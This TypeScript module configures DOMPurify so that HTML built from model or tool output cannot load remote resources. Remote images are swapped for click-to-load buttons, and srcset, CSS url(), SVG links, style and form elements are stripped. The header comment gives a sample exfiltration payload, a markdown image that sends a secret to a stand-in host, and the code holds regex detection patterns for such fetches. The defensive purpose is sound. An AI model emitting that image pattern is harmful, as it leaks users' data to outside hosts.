// The one sanitiser configuration: every piece of HTML built from model or tool output goes through it.
//
// DOMPurify removes scripts and event handlers, but its default profile still lets the page load remote resources
// on its own: an image (`![x](https://host/?q=SECRET)` exfiltrates without a click), `srcset`, an SVG `<image
// href>`, CSS `url()` in a style attribute or a `<style>` element, a video poster, a table background. So, as mail
// clients do, nothing from a remote host loads until the reader asks:
// - an `<img>` whose source is not a `data:image/…` URL becomes a button, "click to load image from HOST"
//   (`loadRemoteImage`, on the widget's root, puts the image back when it is clicked);
// - every other way to fetch is cut: `srcset`, `poster`, `background`, `ping`, form `action`s, `src` on anything
//   but such images, `href` on SVG `<image>`/`<use>`/`<feImage>` unless it points inside the document, any
//   attribute whose value holds `url(`, a `style` attribute that could fetch (`url`, `image-set`, escapes), and
//   the `<style>` and `<form>` elements.
// Links stay links (`<a href>`): a click opens them, in a new tab.
import type { DOMPurify } from "dompurify";

export type Sanitize = (html: string) => string;

/** Class of the button that stands for an image not loaded; `data-pi-src` holds its address. */
export const REMOTE_IMAGE = "pi-remote-image";

const LOCAL_IMAGE = /^data:image\//i;
const FETCHING_STYLE = /url|image|\\|@|expression/i;
const SVG_LINKS = new Set(["image", "use", "feimage"]);
const configured = new WeakSet<DOMPurify>();

/** `purify.sanitize` with the rules above, and the body forced, so a piece that starts with a comment or a
 * `<style>` keeps the white space after it as it would in the middle of a larger text (pieces must add up to the
 * whole). */
export function sanitizer(purify: DOMPurify): Sanitize {
  if (!configured.has(purify) && typeof purify.addHook === "function") {
    // (no addHook: DOMPurify without a window, as when Node imports this module; it sanitises nothing there)
    configured.add(purify);
    purify.addHook("afterSanitizeAttributes", (node) => holdBack(node as Element));
  }
  return (html) =>
    purify.sanitize(html, {
      FORCE_BODY: true,
      FORBID_TAGS: ["style", "form"],
      FORBID_ATTR: ["srcset", "poster", "background", "ping", "action", "formaction"],
    });
}

function holdBack(node: Element): void {
  if (typeof node.getAttribute !== "function") return; // text, comments
  for (const { name, value } of Array.from(node.attributes)) {
    if (/url\s*\(/i.test(value) || (name === "style" && FETCHING_STYLE.test(value))) node.removeAttribute(name);
  }
  const tag = node.localName.toLowerCase();
  if (SVG_LINKS.has(tag)) {
    for (const name of ["href", "xlink:href"]) {
      const value = node.getAttribute(name);
      if (value !== null && !value.startsWith("#") && !LOCAL_IMAGE.test(value)) node.removeAttribute(name);
    }
  }
  const src = node.getAttribute("src");
  if (src === null || LOCAL_IMAGE.test(src)) return;
  if (tag === "img") node.replaceWith(placeholder(node, src));
  else node.removeAttribute("src");
}

function placeholder(image: Element, src: string): HTMLButtonElement {
  const button = image.ownerDocument.createElement("button");
  const alt = image.getAttribute("alt") ?? "";
  button.type = "button";
  button.className = REMOTE_IMAGE;
  button.dataset.piSrc = src;
  button.dataset.piAlt = alt;
  button.title = src;
  button.textContent = `${alt ? `${alt}: ` : ""}click to load image from ${host(src)}`;
  return button;
}

function host(src: string): string {
  try {
    return new URL(src, "http://this-server.invalid/").host.replace("this-server.invalid", "this server");
  } catch {
    return "an unknown host";
  }
}

/** A click anywhere in the widget: on an image's button, load that image in its place. */
export function loadRemoteImage(event: Event): void {
  const target = event.target as Element | null;
  const button = target?.closest?.(`button.${REMOTE_IMAGE}`) as HTMLButtonElement | null;
  if (!button) return;
  const image = button.ownerDocument.createElement("img");
  image.alt = button.dataset.piAlt ?? "";
  image.src = button.dataset.piSrc ?? "";
  button.replaceWith(image);
}
